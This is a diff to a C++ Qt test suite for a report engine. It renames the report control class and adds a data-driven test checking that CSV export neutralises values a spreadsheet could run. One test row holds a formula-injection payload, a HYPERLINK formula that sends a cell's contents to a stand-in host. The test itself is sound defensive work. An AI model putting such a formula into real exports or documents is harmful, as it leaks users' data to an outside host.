@@ -2,9 +2,9 @@
 #include <support/testappfolder.h>
 
 #include <core/contacts/contactfields.h>
-#include <gui/report/crystalreport.h>
 #include <gui/report/reportprinting.h>
 #include <gui/report/reportviewer.h>
+#include <gui/report/viewerreportcontrol.h>
 #include <report/report.h>
 #include <report/reportdata.h>
 #include <report/reportdefinition.h>
@@ -29,6 +29,7 @@
 #include <QWheelEvent>
 
 using namespace reportengine;
+using namespace reportui;
 
 namespace {
 
@@ -300,6 +301,7 @@ private slots:
     void missingDataSource();
     void dataSourceIsReadWithoutKeepingALock();
     void csvRowsEqualDataSourceRows();
+    void csvQuotesValues_data();
     void csvQuotesValues();
     void pdfHasThePagesOfTheLayout();
     void printingUsesTheSameLayout();
@@ -733,10 +735,24 @@ void TestReportEngine::csvRowsEqualDataSourceRows()
     QCOMPARE(rows.mid(1), expected);
 }
 
+void TestReportEngine::csvQuotesValues_data()
+{
+    QTest::addColumn<QString>("lastName");
+    QTest::addColumn<QString>("mark"); // what comes before the name's cell as shown
+
+    QTest::newRow("quotes and a comma") << R"(O"Hara, "Jr")"
+                                        << "";
+    // The name cell starts with the last name: a spreadsheet must not run it.
+    QTest::newRow("a formula") << R"c(=HYPERLINK("http://x.example/?"&A1,"Click"))c"
+                               << "'";
+}
+
 void TestReportEngine::csvQuotesValues()
 {
+    QFETCH(QString, lastName);
+    QFETCH(QString, mark);
     ReportData data = contactRows(1);
-    data.rows[0][fieldIndex(ContactField::LastName)] = QStringLiteral("O\"Hara, \"Jr\"");
+    data.rows[0][fieldIndex(ContactField::LastName)] = lastName;
     data.rows[0][fieldIndex(ContactField::Address)] = QStringLiteral("1 Main St");
     const auto report = makeReport(sourceFile(QStringLiteral("data/addresslist.rpt")), data);
     QVERIFY2(report, qPrintable(report.error()));
@@ -747,7 +763,8 @@ void TestReportEngine::csvQuotesValues()
     bool crlf = false;
     const QList<QStringList> rows = parseCsv(readAll(csv), &crlf);
     QCOMPARE(rows.size(), 2);
-    QCOMPARE(rows.at(1).value(0), report->cellText(0, 0));
+    QVERIFY(report->cellText(0, 0).startsWith(lastName));
+    QCOMPARE(rows.at(1).value(0), mark + report->cellText(0, 0));
     QCOMPARE(rows.at(1).value(1), report->cellText(0, 1)); // holds line breaks
     QVERIFY(report->cellText(0, 1).contains(QLatin1Char('\n')));
 }
@@ -832,7 +849,7 @@ void TestReportEngine::controlOpensViewerAndViewerNavigates()
     settings.reportError = [&](const QString &, const QString &text) {
         errors << text;
     };
-    CrystalReport control(settings);
+    ViewerReportControl control(settings);
     control.setReportFileName(folder.file(QStringLiteral("phonelist.rpt")));
     QVERIFY(control.run());
     QVERIFY2(errors.isEmpty(), qPrintable(errors.join(QLatin1Char('\n'))));
@@ -882,7 +899,7 @@ void TestReportEngine::controlReportsFailureAndOpensNothing()
         errors.append({title, text});
     };
 
-    CrystalReport control(settings);
+    ViewerReportControl control(settings);
     control.setReportFileName(folder.file(QStringLiteral("emaillist.rpt")));
     QVERIFY(!control.run());
     control.setReportFileName(folder.file(QStringLiteral("phonelist.rpt")));
@@ -902,7 +919,7 @@ void TestReportEngine::viewersCloseTogetherAndDoNotHoldTheProgram()
     TestAppFolder folder;
     QVERIFY(installReports(folder, 10));
     for (const char *name : {"phonelist.rpt", "addresslist.rpt"}) {
-        CrystalReport control;
+        ViewerReportControl control;
         control.setReportFileName(folder.file(QLatin1String(name)));
         QVERIFY(control.run());
         QVERIFY(!control.lastViewer()->testAttribute(Qt::WA_QuitOnClose));
